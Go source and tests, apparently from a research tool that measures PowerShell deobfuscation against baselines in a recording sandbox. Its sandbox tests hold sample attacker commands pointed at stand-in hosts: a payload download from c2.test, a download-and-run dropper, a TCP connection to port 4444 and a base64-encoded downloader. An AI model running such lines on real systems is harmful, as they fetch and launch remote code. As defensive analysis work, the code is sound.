			row.Type, row.Subtype,
		}
		for _, tool := range r.Tools {
			cells = append(cells, Mark(row.PerTool[tool]))
		}
		rows = append(rows, cells)
	}
	return "Table II: Comparison of deobfuscation ability (Y=all 3 positions, p=partial, x=none).\n" +
		table(header, rows)
}
