package experiments

import (
	"fmt"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/baselines"
	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
	"github.com/invoke-deobfuscation/invokedeob/internal/keyinfo"
	"github.com/invoke-deobfuscation/invokedeob/internal/score"
)

// AblationResult quantifies the contribution of each engine design
// choice (DESIGN.md §6): variable tracing, token parsing, and the
// blocklist/fixpoint bounds.
type AblationResult struct {
	Samples  int
	Variants []AblationVariant
}

// AblationVariant is one engine configuration's aggregate performance.
type AblationVariant struct {
	Name string
	// KeyInfoRecovered counts ground-truth items exposed in output.
	KeyInfoRecovered int
	// KeyInfoTotal is the ground-truth item count.
	KeyInfoTotal int
	// ScoreReduction is the mean relative obfuscation-score reduction.
	ScoreReduction float64
	// MeanDuration is the mean per-sample deobfuscation time.
	MeanDuration time.Duration
}

// Ablation compares the full engine against variants with one feature
// disabled each.
func Ablation(cfg Config) *AblationResult {
	cfg = cfg.withDefaults(40)
	restore := cfg.applyLatency()
	defer restore()
	samples := corpus.Generate(corpus.Config{Seed: cfg.Seed, N: cfg.Samples})
	variants := []struct {
		name string
		opts core.Options
	}{
		{"full engine", core.Options{}},
		{"no variable tracing", core.Options{DisableVariableTracing: true}},
		{"no token parsing", core.Options{DisableTokenPhase: true}},
		{"no AST recovery", core.Options{DisableASTPhase: true}},
		{"single iteration", core.Options{MaxIterations: 1}},
		{"+ function tracing (ext)", core.Options{FunctionTracing: true}},
	}
	res := &AblationResult{Samples: len(samples)}
	for _, v := range variants {
		tool := baselines.InvokeDeobfuscation{Options: v.opts}
		av := AblationVariant{Name: v.name}
		reduction := 0.0
		var elapsed time.Duration
		for _, s := range samples {
			truth := s.KeyInfo
			av.KeyInfoTotal += truth.Count()
			before := score.Analyze(s.Source).Score
			start := time.Now()
			out, err := tool.Deobfuscate(s.Source)
			elapsed += time.Since(start)
			if err != nil {
				continue
			}
			m := keyinfo.Matches(keyinfo.Extract(out), truth)
			for _, n := range m {
				av.KeyInfoRecovered += n
			}
			if before > 0 {
				after := score.Analyze(out).Score
				delta := float64(before-after) / float64(before)
				if delta > 0 {
					reduction += delta
				}
			}
		}
		av.ScoreReduction = reduction / float64(len(samples))
		av.MeanDuration = elapsed / time.Duration(len(samples))
		res.Variants = append(res.Variants, av)
	}
	return res
}

// String renders the ablation table.
func (r *AblationResult) String() string {
	header := []string{"Variant", "KeyInfo", "of", "Recovered", "Score Reduced", "Mean Time"}
	var rows [][]string
	for _, v := range r.Variants {
		rows = append(rows, []string{
			v.Name,
			fmt.Sprint(v.KeyInfoRecovered),
			fmt.Sprint(v.KeyInfoTotal),
			pct(v.KeyInfoRecovered, v.KeyInfoTotal),
			pctF(v.ScoreReduction),
			v.MeanDuration.Round(100 * time.Microsecond).String(),
		})
	}
	return fmt.Sprintf("Ablation: engine variants on %d wild samples.\n%s", r.Samples, table(header, rows))
}
