package experiments

import "testing"

func TestTable2Quick(t *testing.T) {
	res := Table2(Config{Quick: true})
	t.Logf("\n%s", res)
	// Shape checks against the paper: our tool recovers everything but
	// whitespace encoding in all three positions.
	for _, row := range res.Rows {
		ours := row.PerTool["Our tool"]
		if row.Subtype == "Whitespace" {
			if ours != 0 {
				t.Errorf("whitespace encoding unexpectedly recovered (%d)", ours)
			}
			continue
		}
		if ours != 3 {
			t.Errorf("technique %s: our tool recovered %d/3 positions", row.Technique, ours)
		}
	}
}
