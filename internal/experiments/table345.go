package experiments

import (
	"fmt"
	"sort"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
	"github.com/invoke-deobfuscation/invokedeob/internal/keyinfo"
	"github.com/invoke-deobfuscation/invokedeob/internal/sandbox"
	"github.com/invoke-deobfuscation/invokedeob/internal/score"
)

// Table3Result reproduces Table III: how many multi-layer samples each
// tool fully recovers.
type Table3Result struct {
	Samples int
	PerTool map[string]int
	Order   []string
}

// Table3 selects multi-layer samples (two or more wrapper layers, like
// the paper's 12) and checks full recovery: the output exposes all
// ground-truth key information in the clear.
func Table3(cfg Config) *Table3Result {
	cfg = cfg.withDefaults(12)
	restore := cfg.applyLatency()
	defer restore()
	var selected []*corpus.Sample
	seed := cfg.Seed
	for attempts := 0; len(selected) < cfg.Samples && attempts < 10; attempts++ {
		for _, s := range corpus.Generate(corpus.Config{Seed: seed, N: cfg.Samples * 6}) {
			if s.MultiLayer() && s.KeyInfo.Count() > 0 {
				selected = append(selected, s)
				if len(selected) == cfg.Samples {
					break
				}
			}
		}
		seed += 7717
	}
	res := &Table3Result{Samples: len(selected), PerTool: map[string]int{}}
	for _, tool := range tools() {
		res.Order = append(res.Order, tool.Name())
		for _, s := range selected {
			out, err := tool.Deobfuscate(s.Source)
			if err != nil {
				continue
			}
			if fullyRecovered(out, s.KeyInfo) {
				res.PerTool[tool.Name()]++
			}
		}
	}
	return res
}

// fullyRecovered reports whether every ground-truth key-information
// item appears in clear text.
func fullyRecovered(out string, truth *keyinfo.Info) bool {
	got := keyinfo.Extract(out)
	m := keyinfo.Matches(got, truth)
	totalMatched := 0
	for _, v := range m {
		totalMatched += v
	}
	return totalMatched >= truth.Count()
}

// String renders Table III.
func (r *Table3Result) String() string {
	header := []string{"Tool", "#Samples", "Proportion"}
	var rows [][]string
	for _, name := range r.Order {
		rows = append(rows, []string{name, fmt.Sprint(r.PerTool[name]), pct(r.PerTool[name], r.Samples)})
	}
	return fmt.Sprintf("Table III: Ability to handle multiple layers of obfuscation (%d multi-layer samples).\n%s",
		r.Samples, table(header, rows))
}

// Table4Result reproduces Table IV: behavioural consistency between
// original samples and each tool's deobfuscation result.
type Table4Result struct {
	// SamplesWithNetwork is the number of original samples showing
	// network behaviour (the paper's 32).
	SamplesWithNetwork int
	// PerToolWithNetwork counts tool outputs that still show network
	// behaviour.
	PerToolWithNetwork map[string]int
	// PerToolEffective counts effective (changed) outputs whose network
	// behaviour matches the original.
	PerToolEffective map[string]int
	Order            []string
}

// Table4 runs originals and tool outputs in the sandbox and compares
// network behaviour.
func Table4(cfg Config) *Table4Result {
	cfg = cfg.withDefaults(32)
	restore := cfg.applyLatency()
	defer restore()
	// Collect samples whose obfuscated form exhibits network behaviour.
	var selected []*corpus.Sample
	var behaviors []sandbox.Behavior
	seed := cfg.Seed
	for attempts := 0; len(selected) < cfg.Samples && attempts < 10; attempts++ {
		for _, s := range corpus.Generate(corpus.Config{Seed: seed, N: cfg.Samples * 4}) {
			res := sandbox.Run(s.Source, sandbox.Options{})
			if res.Behavior.HasNetwork() {
				selected = append(selected, s)
				behaviors = append(behaviors, res.Behavior)
				if len(selected) == cfg.Samples {
					break
				}
			}
		}
		seed += 104729
	}
	res := &Table4Result{
		SamplesWithNetwork: len(selected),
		PerToolWithNetwork: map[string]int{},
		PerToolEffective:   map[string]int{},
	}
	for _, tool := range tools() {
		res.Order = append(res.Order, tool.Name())
		for i, s := range selected {
			out, err := tool.Deobfuscate(s.Source)
			if err != nil {
				continue
			}
			after := sandbox.Run(out, sandbox.Options{})
			if after.Behavior.HasNetwork() {
				res.PerToolWithNetwork[tool.Name()]++
			}
			// Returning the input unchanged is not an effective
			// deobfuscation result (paper §IV-C3).
			effective := strings.TrimSpace(out) != strings.TrimSpace(s.Source)
			if effective && sandbox.Consistent(behaviors[i], after.Behavior) {
				res.PerToolEffective[tool.Name()]++
			}
		}
	}
	return res
}

// String renders Table IV.
func (r *Table4Result) String() string {
	header := []string{"Tool", "#Samples with Network", "#Effective", "Proportion"}
	rows := [][]string{{"OriginData", fmt.Sprint(r.SamplesWithNetwork), "-", "-"}}
	for _, name := range r.Order {
		rows = append(rows, []string{
			name,
			fmt.Sprint(r.PerToolWithNetwork[name]),
			fmt.Sprint(r.PerToolEffective[name]),
			pct(r.PerToolEffective[name], r.SamplesWithNetwork),
		})
	}
	return fmt.Sprintf("Table IV: Behavior consistency (%d networked samples).\n%s",
		r.SamplesWithNetwork, table(header, rows))
}

// Table5Result reproduces Table V: obfuscation mitigation on the most
// obfuscated samples.
type Table5Result struct {
	Samples int
	Order   []string
	// Valid counts outputs that differ from the input and parse.
	Valid map[string]int
	// Mitigation[tool][level] is the proportional reduction of samples
	// carrying that level after deobfuscation.
	Mitigation map[string][4]float64
	// ScoreReduction[tool] is the average relative obfuscation-score
	// reduction over all samples.
	ScoreReduction map[string]float64
}

// Table5 scores a corpus, keeps the highest-scored samples and measures
// per-level mitigation and average score reduction per tool.
func Table5(cfg Config) *Table5Result {
	cfg = cfg.withDefaults(60)
	restore := cfg.applyLatency()
	defer restore()
	pool := corpus.Generate(corpus.Config{Seed: cfg.Seed, N: cfg.Samples * 4})
	type scored struct {
		s   *corpus.Sample
		rep *score.Report
	}
	var all []scored
	for _, s := range pool {
		all = append(all, scored{s: s, rep: score.Analyze(s.Source)})
	}
	sort.SliceStable(all, func(i, j int) bool { return all[i].rep.Score > all[j].rep.Score })
	if len(all) > cfg.Samples {
		all = all[:cfg.Samples]
	}
	res := &Table5Result{
		Samples:        len(all),
		Valid:          map[string]int{},
		Mitigation:     map[string][4]float64{},
		ScoreReduction: map[string]float64{},
	}
	var origAt [4]int
	for _, sc := range all {
		for level := 1; level <= 3; level++ {
			if sc.rep.Levels[level] {
				origAt[level]++
			}
		}
	}
	for _, tool := range tools() {
		res.Order = append(res.Order, tool.Name())
		var afterAt [4]int
		reduction := 0.0
		for _, sc := range all {
			out, err := tool.Deobfuscate(sc.s.Source)
			valid := err == nil && strings.TrimSpace(out) != strings.TrimSpace(sc.s.Source) &&
				corpus.ValidSyntax(out)
			if !valid {
				// Invalid results leave the sample as obfuscated as it
				// was.
				for level := 1; level <= 3; level++ {
					if sc.rep.Levels[level] {
						afterAt[level]++
					}
				}
				continue
			}
			res.Valid[tool.Name()]++
			afterRep := score.Analyze(out)
			for level := 1; level <= 3; level++ {
				if afterRep.Levels[level] {
					afterAt[level]++
				}
			}
			if sc.rep.Score > 0 {
				delta := float64(sc.rep.Score-afterRep.Score) / float64(sc.rep.Score)
				if delta > 0 {
					reduction += delta
				}
			}
		}
		var mit [4]float64
		for level := 1; level <= 3; level++ {
			if origAt[level] > 0 {
				mit[level] = float64(origAt[level]-afterAt[level]) / float64(origAt[level])
				if mit[level] < 0 {
					mit[level] = 0
				}
			}
		}
		res.Mitigation[tool.Name()] = mit
		res.ScoreReduction[tool.Name()] = reduction / float64(len(all))
	}
	return res
}

// String renders Table V.
func (r *Table5Result) String() string {
	header := []string{"Tool", "#Valid", "L1", "L2", "L3", "Avg Score Reduced"}
	rows := [][]string{{"OriginData", fmt.Sprint(r.Samples), "-", "-", "-", "-"}}
	for _, name := range r.Order {
		mit := r.Mitigation[name]
		rows = append(rows, []string{
			name,
			fmt.Sprint(r.Valid[name]),
			pctF(mit[1]), pctF(mit[2]), pctF(mit[3]),
			pctF(r.ScoreReduction[name]),
		})
	}
	return fmt.Sprintf("Table V: Mitigation of obfuscation on the %d highest-scored samples.\n%s",
		r.Samples, table(header, rows))
}
