package experiments

import (
	"fmt"
	"math/rand"

	"github.com/invoke-deobfuscation/invokedeob/internal/corpus"
)

// FunnelResult reproduces the dataset-preprocessing funnel of §IV-B1:
// raw collected samples → syntactically valid → PowerShell-like →
// structurally deduplicated (the paper's 2,025,175 → 39,713).
type FunnelResult struct {
	Raw          int
	Valid        int
	PowerShell   int
	Deduplicated int
}

// DatasetFunnel builds a raw collection the way a sandbox feed looks —
// family variants differing only in embedded strings, exact duplicates,
// and non-PowerShell junk — then runs the preprocessing pipeline.
func DatasetFunnel(cfg Config) *FunnelResult {
	cfg = cfg.withDefaults(300)
	rng := rand.New(rand.NewSource(cfg.Seed))
	base := corpus.Generate(corpus.Config{Seed: cfg.Seed, N: cfg.Samples})
	var raw []*corpus.Sample
	for i, s := range base {
		raw = append(raw, s)
		// Family variants: the same generator output with different
		// indicators (string contents), the paper's main duplication
		// source.
		variants := rng.Intn(4)
		for v := 0; v < variants; v++ {
			raw = append(raw, &corpus.Sample{
				ID:     fmt.Sprintf("%s-var%d", s.ID, v),
				Source: swapDigits(s.Source, rng),
			})
		}
		// Occasional exact duplicate under a new hash (re-collected
		// sample).
		if rng.Intn(5) == 0 {
			raw = append(raw, &corpus.Sample{ID: fmt.Sprintf("%s-dup", s.ID), Source: s.Source})
		}
		// Category-Two junk: files TrID/file mislabel as PowerShell.
		if i%7 == 0 {
			raw = append(raw, &corpus.Sample{
				ID:     fmt.Sprintf("junk-%d", i),
				Source: junkSamples[rng.Intn(len(junkSamples))],
			})
		}
	}
	res := &FunnelResult{Raw: len(raw)}
	var valid []*corpus.Sample
	for _, s := range raw {
		if corpus.ValidSyntax(s.Source) {
			valid = append(valid, s)
		}
	}
	res.Valid = len(valid)
	var psLike []*corpus.Sample
	for _, s := range valid {
		if corpus.LooksLikePowerShell(s.Source) {
			psLike = append(psLike, s)
		}
	}
	res.PowerShell = len(psLike)
	res.Deduplicated = len(corpus.Deduplicate(psLike))
	return res
}

// swapDigits perturbs digits inside string literals only, producing a
// structure-identical family variant.
func swapDigits(src string, rng *rand.Rand) string {
	b := []byte(src)
	inSingle := false
	for i := 0; i < len(b); i++ {
		switch {
		case b[i] == '\'':
			inSingle = !inSingle
		case inSingle && b[i] >= '0' && b[i] <= '9':
			b[i] = byte('0' + rng.Intn(10))
		}
	}
	return string(b)
}

// junkSamples imitate the mislabeled Mail/HTML/other content of the
// paper's Category-Two feed.
var junkSamples = []string{
	"<html><body><p>not a script</p></body></html>",
	"Subject: invoice\nFrom: a@b.test\n\nplease see attachment",
	"MZ\x90\x00\x03\x00\x00\x00\x04\x00",
	"{ \"json\": true, \"powershell\": false }",
	"SGVsbG8gV29ybGQ=",
}

// String renders the funnel.
func (r *FunnelResult) String() string {
	rows := [][]string{
		{"raw collected", fmt.Sprint(r.Raw), "100%"},
		{"valid syntax", fmt.Sprint(r.Valid), pct(r.Valid, r.Raw)},
		{"PowerShell-like", fmt.Sprint(r.PowerShell), pct(r.PowerShell, r.Raw)},
		{"structurally deduplicated", fmt.Sprint(r.Deduplicated), pct(r.Deduplicated, r.Raw)},
	}
	return "Dataset preprocessing funnel (paper §IV-B1, 2,025,175 -> 39,713 at full scale).\n" +
		table([]string{"Stage", "#Samples", "of raw"}, rows)
}
