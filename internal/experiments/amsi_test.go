package experiments

import "testing"

// TestAMSIComparisonShape checks §V-B's claims: AMSI recovers engine-
// invoked (L3) layers — including dynamic IEX spellings — but nothing
// that is never invoked; our tool covers both; the concat bypass blinds
// AMSI but not the deobfuscator.
func TestAMSIComparisonShape(t *testing.T) {
	res := AMSIComparison(Config{Quick: true})
	t.Logf("\n%s", res)
	amsiL3, oursAll := 0, 0
	for _, row := range res.Rows {
		if row.Level == 3 && row.AMSI {
			amsiL3++
		}
		if row.Ours {
			oursAll++
		}
		if row.Level == 1 && row.AMSI && row.Technique != "random-name" {
			t.Errorf("AMSI recovered non-invoked L1 technique %s", row.Technique)
		}
	}
	if amsiL3 < 5 {
		t.Errorf("AMSI recovered only %d invoked L3 techniques", amsiL3)
	}
	if oursAll < len(res.Rows)-1 { // whitespace encoding excepted
		t.Errorf("our tool recovered %d of %d", oursAll, len(res.Rows))
	}
	if res.AMSIBypassExposed {
		t.Error("AMSI exposed the concat bypass (it should be blind to it)")
	}
	if !res.OursBypassExposed {
		t.Error("our tool missed the concat bypass")
	}
}
