package experiments

import "testing"

// The shape tests assert the paper's qualitative findings hold on quick
// configurations; cmd/benchtables runs the full-scale versions.

func TestFigure5Shape(t *testing.T) {
	res := Figure5(Config{Quick: true, Samples: 30})
	t.Logf("\n%s", res)
	ours := total(res.PerTool["Our tool"])
	manual := total(res.Manual)
	if manual == 0 {
		t.Fatal("no ground truth")
	}
	if float64(ours) < 0.8*float64(manual) {
		t.Errorf("our tool recovered %d of %d key info items (<80%%)", ours, manual)
	}
	for _, name := range []string{"PSDecode", "PowerDrive", "PowerDecode", "Li et al."} {
		other := total(res.PerTool[name])
		if ours < 2*other {
			t.Logf("note: %s recovered %d vs ours %d (paper claims >=2x)", name, other, ours)
		}
	}
}

func TestTable3Shape(t *testing.T) {
	res := Table3(Config{Quick: true, Samples: 12})
	t.Logf("\n%s", res)
	if res.Samples == 0 {
		t.Fatal("no multilayer samples")
	}
	ours := res.PerTool["Our tool"]
	if ours < res.Samples*9/10 {
		t.Errorf("our tool recovered %d/%d multilayer samples", ours, res.Samples)
	}
	if li := res.PerTool["Li et al."]; li > res.Samples/4 {
		t.Errorf("Li et al. recovered %d (expected ~0)", li)
	}
}

func TestTable4Shape(t *testing.T) {
	res := Table4(Config{Quick: true, Samples: 16})
	t.Logf("\n%s", res)
	ours := res.PerToolEffective["Our tool"]
	if ours != res.SamplesWithNetwork {
		t.Errorf("our tool consistent on %d/%d networked samples (paper: 100%%)", ours, res.SamplesWithNetwork)
	}
}

func TestTable5Shape(t *testing.T) {
	res := Table5(Config{Quick: true, Samples: 20})
	t.Logf("\n%s", res)
	ours := res.ScoreReduction["Our tool"]
	if ours < 0.30 {
		t.Errorf("our score reduction %.2f (paper: ~0.46)", ours)
	}
	for _, name := range []string{"PSDecode", "PowerDrive", "PowerDecode", "Li et al."} {
		if res.ScoreReduction[name] >= ours {
			t.Errorf("%s reduction %.2f >= ours %.2f", name, res.ScoreReduction[name], ours)
		}
	}
}

func TestTable1Shape(t *testing.T) {
	res := Table1(Config{Samples: 300})
	t.Logf("\n%s", res)
	for level := 1; level <= 3; level++ {
		p := float64(res.SamplesAt[level]) / float64(res.Total)
		if p < 0.75 {
			t.Errorf("L%d prevalence %.2f (paper: >0.95)", level, p)
		}
	}
}

func TestAblationShape(t *testing.T) {
	res := Ablation(Config{Quick: true, Samples: 20})
	t.Logf("\n%s", res)
	full := res.Variants[0]
	for _, v := range res.Variants[1:] {
		if v.Name == "no variable tracing" && v.KeyInfoRecovered >= full.KeyInfoRecovered {
			t.Logf("note: tracing ablation did not reduce recovery on this corpus")
		}
	}
}
