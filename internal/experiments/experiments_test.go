package experiments

import (
	"strings"
	"testing"
)

func TestTableRenderAlignment(t *testing.T) {
	out := table([]string{"A", "Column"}, [][]string{{"xx", "1"}, {"y", "22"}})
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 4 {
		t.Fatalf("lines = %d: %q", len(lines), out)
	}
	if !strings.HasPrefix(lines[0], "A ") || !strings.Contains(lines[0], "Column") {
		t.Errorf("header = %q", lines[0])
	}
	if !strings.HasPrefix(lines[2], "xx") {
		t.Errorf("row = %q", lines[2])
	}
}

func TestPct(t *testing.T) {
	if pct(1, 2) != "50.0%" || pct(0, 0) != "-" || pctF(0.463) != "46.3%" {
		t.Error("percentage rendering broken")
	}
}

func TestConfigDefaults(t *testing.T) {
	cfg := Config{}.withDefaults(77)
	if cfg.Samples != 77 || cfg.Seed == 0 {
		t.Errorf("defaults = %+v", cfg)
	}
	cfg = Config{Samples: 5, Seed: 9}.withDefaults(77)
	if cfg.Samples != 5 || cfg.Seed != 9 {
		t.Errorf("overrides lost = %+v", cfg)
	}
}

func TestMark(t *testing.T) {
	if Mark(3) != "Y" || Mark(1) != "p" || Mark(0) != "x" {
		t.Error("marks broken")
	}
}

func TestBuildPositions(t *testing.T) {
	pos := buildPositions("IEX 'x'", true)
	if len(pos) != 3 || pos[1] != "$fmp = IEX 'x'" || pos[2] != "IEX 'x' | out-null" {
		t.Errorf("positions = %v", pos)
	}
	multi := buildPositions("a\nb", true)
	if !strings.Contains(multi[1], "$fmp = $(") {
		t.Errorf("multiline positions = %v", multi)
	}
}

func TestResultStringers(t *testing.T) {
	// Every result type renders something table-like without panicking.
	cfg := Config{Quick: true, Samples: 6}
	for _, s := range []interface{ String() string }{
		Table1(Config{Samples: 40}),
		Figure5(cfg),
		Table3(Config{Quick: true, Samples: 3}),
	} {
		out := s.String()
		if !strings.Contains(out, "-----") {
			t.Errorf("rendering missing separator: %.80s", out)
		}
	}
}
