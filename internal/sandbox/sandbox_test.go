package sandbox

import (
	"strings"
	"testing"
)

func hasEvent(b Behavior, kind EventKind, detailSub string) bool {
	for _, e := range b {
		if e.Kind == kind && strings.Contains(e.Detail, detailSub) {
			return true
		}
	}
	return false
}

func TestRunDownloader(t *testing.T) {
	res := Run(`(New-Object Net.WebClient).downloadstring('https://c2.test/payload.ps1')`, Options{})
	if res.Err != nil {
		t.Fatalf("err = %v", res.Err)
	}
	if !hasEvent(res.Behavior, EventDNSQuery, "c2.test") {
		t.Errorf("missing dns event: %v", res.Behavior)
	}
	if !hasEvent(res.Behavior, EventTCPConnect, "c2.test:443") {
		t.Errorf("missing tcp event: %v", res.Behavior)
	}
	if !hasEvent(res.Behavior, EventHTTPGet, "payload.ps1") {
		t.Errorf("missing http event: %v", res.Behavior)
	}
}

func TestRunDropperAndProcess(t *testing.T) {
	res := Run(`(New-Object Net.WebClient).DownloadFile('http://x.test/e.exe', "$env:TEMP\e.exe")
Start-Process "$env:TEMP\e.exe"`, Options{})
	if !hasEvent(res.Behavior, EventDownload, "e.exe") {
		t.Errorf("missing download: %v", res.Behavior)
	}
	if !hasEvent(res.Behavior, EventProcess, "e.exe") {
		t.Errorf("missing process: %v", res.Behavior)
	}
}

func TestRunTCPClient(t *testing.T) {
	res := Run(`$c = New-Object Net.Sockets.TcpClient('198.51.100.1', 4444)`, Options{})
	if !hasEvent(res.Behavior, EventTCPConnect, "198.51.100.1:4444") {
		t.Errorf("missing tcp connect: %v", res.Behavior)
	}
}

func TestRunFileAndSleep(t *testing.T) {
	res := Run(`'note' | Out-File "$env:USERPROFILE\Desktop\README.txt"
Start-Sleep -Seconds 30
Remove-Item 'C:\doc.txt'`, Options{})
	if !hasEvent(res.Behavior, EventFileWrite, "README.txt") {
		t.Errorf("missing write: %v", res.Behavior)
	}
	if !hasEvent(res.Behavior, EventSleep, "30") {
		t.Errorf("missing sleep: %v", res.Behavior)
	}
	if !hasEvent(res.Behavior, EventFileDelete, "doc.txt") {
		t.Errorf("missing delete: %v", res.Behavior)
	}
}

func TestRunNestedEncodedCommand(t *testing.T) {
	// powershell -enc wrapping a downloader must still surface the
	// network behaviour (nested execution).
	res := Run("powershell -nop -e KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAG4AZQBzAHQALgB0AGUAcwB0AC8AJwApAA==", Options{})
	if !hasEvent(res.Behavior, EventDNSQuery, "nest.test") {
		t.Errorf("nested network behaviour missing: %v (err=%v)", res.Behavior, res.Err)
	}
}

func TestConsistent(t *testing.T) {
	a := Run(`(New-Object Net.WebClient).downloadstring('http://same.test/x')`, Options{})
	b := Run(`$u = 'http://same.test/x'
(New-Object Net.WebClient).downloadstring($u)`, Options{})
	if !Consistent(a.Behavior, b.Behavior) {
		t.Errorf("equivalent scripts inconsistent:\n%v\n%v", a.Behavior.NetworkSet(), b.Behavior.NetworkSet())
	}
	c := Run(`(New-Object Net.WebClient).downloadstring('http://other.test/x')`, Options{})
	if Consistent(a.Behavior, c.Behavior) {
		t.Error("different targets reported consistent")
	}
	d := Run(`write-host nothing`, Options{})
	if Consistent(a.Behavior, d.Behavior) {
		t.Error("networked vs silent reported consistent")
	}
}

func TestConsoleCapture(t *testing.T) {
	res := Run("write-host 'visible output'", Options{})
	if !strings.Contains(res.Console, "visible output") {
		t.Errorf("console = %q", res.Console)
	}
}

func TestHostPort(t *testing.T) {
	tests := []struct {
		url  string
		host string
		port int64
	}{
		{"https://a.test/x", "a.test", 443},
		{"http://b.test:8080/y?q=1", "b.test", 8080},
		{"HTTP://UPPER.test", "upper.test", 80},
		{"ftp://f.test/z", "f.test", 21},
		{"plain.test/path", "plain.test", 80},
	}
	for _, tt := range tests {
		h, p := hostPort(tt.url)
		if h != tt.host || p != tt.port {
			t.Errorf("hostPort(%q) = %q,%d want %q,%d", tt.url, h, p, tt.host, tt.port)
		}
	}
}

func TestRunBudget(t *testing.T) {
	res := Run("while ($true) { $i++ }", Options{MaxSteps: 5000})
	if res.Err == nil {
		t.Error("expected budget error")
	}
}

func TestBehaviorBeforeFailureIsKept(t *testing.T) {
	res := Run(`(New-Object Net.WebClient).downloadstring('http://early.test/')
Unknown-Cmdlet-That-Fails`, Options{})
	if res.Err == nil {
		t.Error("expected failure")
	}
	if !hasEvent(res.Behavior, EventDNSQuery, "early.test") {
		t.Errorf("behaviour before failure lost: %v", res.Behavior)
	}
}
