// Package sandbox executes PowerShell scripts in the bounded
// interpreter with an instrumented host that records behaviour instead
// of touching the outside world. It substitutes for the TianQiong
// sandbox in the paper's behavioural-consistency experiment (Table IV):
// two scripts are behaviourally consistent when they produce the same
// set of network events (DNS queries and TCP connections).
package sandbox

import (
	"context"
	"fmt"
	"sort"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psinterp"
)

// EventKind classifies a recorded behaviour.
type EventKind string

// Recorded behaviour kinds.
const (
	EventDNSQuery   EventKind = "dns-query"
	EventTCPConnect EventKind = "tcp-connect"
	EventHTTPGet    EventKind = "http-get"
	EventDownload   EventKind = "download-file"
	EventProcess    EventKind = "process-start"
	EventFileWrite  EventKind = "file-write"
	EventFileDelete EventKind = "file-delete"
	EventSleep      EventKind = "sleep"
)

// Event is one recorded behaviour.
type Event struct {
	Kind   EventKind
	Detail string
}

func (e Event) String() string { return string(e.Kind) + " " + e.Detail }

// Behavior is an ordered list of events.
type Behavior []Event

// HasNetwork reports whether any network event was recorded.
func (b Behavior) HasNetwork() bool {
	for _, e := range b {
		switch e.Kind {
		case EventDNSQuery, EventTCPConnect, EventHTTPGet, EventDownload:
			return true
		}
	}
	return false
}

// NetworkSet returns the deduplicated, sorted set of network events
// (DNS queries and TCP connections), the comparison basis of Table IV.
func (b Behavior) NetworkSet() []string {
	set := map[string]bool{}
	for _, e := range b {
		switch e.Kind {
		case EventDNSQuery, EventTCPConnect:
			set[e.String()] = true
		}
	}
	out := make([]string, 0, len(set))
	for s := range set {
		out = append(out, s)
	}
	sort.Strings(out)
	return out
}

// Consistent reports whether two behaviours have identical network
// event sets.
func Consistent(a, b Behavior) bool {
	sa, sb := a.NetworkSet(), b.NetworkSet()
	if len(sa) != len(sb) {
		return false
	}
	for i := range sa {
		if sa[i] != sb[i] {
			return false
		}
	}
	return true
}

// recordingHost records behaviour and returns canned data for network
// reads.
type recordingHost struct {
	events  Behavior
	console strings.Builder
}

var _ psinterp.Host = (*recordingHost)(nil)

func (h *recordingHost) record(kind EventKind, detail string) {
	h.events = append(h.events, Event{Kind: kind, Detail: detail})
}

func (h *recordingHost) noteNetworkTarget(rawURL string) {
	host, port := hostPort(rawURL)
	if host == "" {
		return
	}
	h.record(EventDNSQuery, host)
	h.record(EventTCPConnect, fmt.Sprintf("%s:%d", host, port))
}

// hostPort extracts host and port from a URL.
func hostPort(rawURL string) (string, int64) {
	s := strings.TrimSpace(rawURL)
	port := int64(80)
	if strings.HasPrefix(strings.ToLower(s), "https://") {
		port = 443
		s = s[8:]
	} else if strings.HasPrefix(strings.ToLower(s), "http://") {
		s = s[7:]
	} else if strings.HasPrefix(strings.ToLower(s), "ftp://") {
		port = 21
		s = s[6:]
	}
	for _, sep := range []byte{'/', '?', '#'} {
		if i := strings.IndexByte(s, sep); i >= 0 {
			s = s[:i]
		}
	}
	if i := strings.IndexByte(s, ':'); i >= 0 {
		var p int64
		if _, err := fmt.Sscanf(s[i+1:], "%d", &p); err == nil && p > 0 {
			port = p
		}
		s = s[:i]
	}
	return strings.ToLower(s), port
}

// WriteHost implements psinterp.Host.
func (h *recordingHost) WriteHost(text string) {
	if h.console.Len() < 1<<20 {
		h.console.WriteString(text)
		h.console.WriteByte('\n')
	}
}

// DownloadString implements psinterp.Host.
func (h *recordingHost) DownloadString(url string) (string, error) {
	h.noteNetworkTarget(url)
	h.record(EventHTTPGet, url)
	return "# simulated remote content from " + url, nil
}

// DownloadData implements psinterp.Host.
func (h *recordingHost) DownloadData(url string) (psinterp.Bytes, error) {
	h.noteNetworkTarget(url)
	h.record(EventHTTPGet, url)
	return psinterp.Bytes("MZsimulated"), nil
}

// DownloadFile implements psinterp.Host.
func (h *recordingHost) DownloadFile(url, path string) error {
	h.noteNetworkTarget(url)
	h.record(EventDownload, url+" -> "+path)
	return nil
}

// WebRequest implements psinterp.Host.
func (h *recordingHost) WebRequest(method, url string) (string, error) {
	h.noteNetworkTarget(url)
	h.record(EventHTTPGet, method+" "+url)
	return "simulated response", nil
}

// TCPConnect implements psinterp.Host.
func (h *recordingHost) TCPConnect(host string, port int64) error {
	h.record(EventDNSQuery, strings.ToLower(host))
	h.record(EventTCPConnect, fmt.Sprintf("%s:%d", strings.ToLower(host), port))
	return nil
}

// DNSResolve implements psinterp.Host.
func (h *recordingHost) DNSResolve(host string) error {
	h.record(EventDNSQuery, strings.ToLower(host))
	return nil
}

// StartProcess implements psinterp.Host.
func (h *recordingHost) StartProcess(name string, args []string) error {
	h.record(EventProcess, strings.TrimSpace(name+" "+strings.Join(args, " ")))
	return nil
}

// WriteFile implements psinterp.Host.
func (h *recordingHost) WriteFile(path, content string) error {
	h.record(EventFileWrite, path)
	return nil
}

// RemoveItem implements psinterp.Host.
func (h *recordingHost) RemoveItem(path string) error {
	h.record(EventFileDelete, path)
	return nil
}

// Sleep implements psinterp.Host.
func (h *recordingHost) Sleep(seconds float64) {
